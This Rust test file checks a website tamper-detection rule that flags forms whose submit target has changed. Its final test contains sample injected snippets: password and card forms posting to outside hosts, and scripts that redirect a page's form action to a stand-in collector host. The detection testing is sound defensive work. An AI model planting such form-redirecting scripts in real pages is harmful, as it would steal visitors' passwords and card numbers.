//! Rule `form-target-changed`: what people enter stays with the site.

use crate::harness::{Outcome, check, compared, inserted, outcome, worst};
use hinomi::model::{Confidence::*, Severity::*};

const RULE: &str = "form-target-changed";

fn told(name: &str) -> Option<(hinomi::model::Severity, hinomi::model::Confidence)> {
    worst(&compared(RULE, name), RULE)
}

#[test]
fn fixtures() {
    check(RULE);
}

#[test]
fn changed_targets_and_secrets_are_the_worst() {
    for name in ["tampered-action", "tampered-password", "tampered-card"] {
        assert_eq!(told(name), Some((Critical, Firm)), "{name}");
    }
    assert_eq!(told("tampered-button"), Some((High, Firm)));
}

#[test]
fn it_says_what_is_asked_for_and_where_it_went_before() {
    let found = compared(RULE, "tampered-password");
    let told = found.iter().find(|f| f.rule == RULE).expect("told");
    assert!(told.summary.ja.contains("パスワード") && told.summary.ja.contains("www.city.example"), "{told:#?}");
}

#[test]
fn secrets_and_code_that_moves_a_form_alarm_whoever_it_is() {
    for snippet in [
        "<form action=\"https://docs.google.com/forms/d/e/1/formResponse\" method=post><input type=password name=p></form>",
        "<form action=\"https://cse.google.com/x\"><input name=cardnumber></form>",
        "<script>document.forms[0].action='https://collect.example/save.php'</script>",
        "<script>document.querySelector('form').setAttribute(\"action\", \"https://collect.example/\")</script>",
        "<script>var f=document.forms[1]; f.action = \"//collect.example/x\"</script>",
    ] {
        let found = inserted(RULE, "</main>", snippet);
        assert!(
            found.iter().any(|f| f.rule == RULE && outcome(std::slice::from_ref(f)) == Outcome::Alarm),
            "{snippet}: {found:#?}"
        );
    }
    for snippet in [
        "<form action=\"https://docs.google.com/forms/d/e/1/formResponse\"><input name=q></form>",
        "<script>document.forms[0].action='/search2'</script>",
        "<script>if (f.action == 'https://collect.example/') { track() }</script>",
    ] {
        let found = inserted(RULE, "</main>", snippet);
        assert_eq!(outcome(&found), Outcome::Review, "{snippet}: {found:#?}");
    }
}
